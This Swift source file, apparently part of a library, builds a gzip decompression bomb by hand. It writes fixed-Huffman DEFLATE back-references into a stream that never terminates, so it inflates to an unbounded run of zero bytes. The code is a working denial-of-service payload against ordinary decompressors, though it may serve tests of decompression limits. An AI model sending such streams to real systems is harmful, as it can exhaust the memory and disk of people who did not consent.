/// A gzip stream that inflates to an unbounded run of zero bytes, built by hand (no zlib needed).
///
/// DEFLATE (RFC 1951) with fixed Huffman codes: one literal 0, then back-references of length 258
/// at distance 1, each 13 bits, so every 13 bytes of input inflate to 8 × 258 = 2,064 bytes
/// (about 160:1). The block is never closed, so the stream never ends; there is no trailer.
public enum GzipBomb {
    /// The gzip header (RFC 1952: magic, deflate, no flags, no mtime, Unix) and the first two
    /// bytes of the deflate stream.
    public static let head: [UInt8] = [0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0x03] + Array(stream.prefix(2))

    /// `times` copies of the 13-byte period (8 back-references) that follows the head.
    public static func repeatingUnit(times: Int) -> [UInt8] {
        Array([[UInt8]](repeating: Array(stream[2..<15]), count: times).joined())
    }

    /// Block header, literal 0, then 16 back-references: enough bits to cut one period from.
    private static let stream: [UInt8] = {
        var writer = BitWriter()
        writer.write(bits: 0, count: 1)  // BFINAL = 0: never the last block
        writer.write(bits: 1, count: 2)  // BTYPE = 01: fixed Huffman
        writer.writeCode(0x30, length: 8)  // literal 0
        for _ in 0..<16 {
            writer.writeCode(0xc5, length: 8)  // length code 285 = 258 bytes
            writer.writeCode(0, length: 5)  // distance code 0 = distance 1
        }
        return writer.bytes
    }()

    private struct BitWriter {
        var bytes: [UInt8] = []
        var bitCount = 0

        /// Writes `count` bits of a number, least significant first (header fields).
        mutating func write(bits: Int, count: Int) {
            for i in 0..<count { append(bit: (bits >> i) & 1) }
        }

        /// Writes a Huffman code, most significant bit first.
        mutating func writeCode(_ code: Int, length: Int) {
            for i in stride(from: length - 1, through: 0, by: -1) { append(bit: (code >> i) & 1) }
        }

        private mutating func append(bit: Int) {
            if bitCount % 8 == 0 { bytes.append(0) }
            bytes[bytes.count - 1] |= UInt8(bit << (bitCount % 8))
            bitCount += 1
        }
    }
}
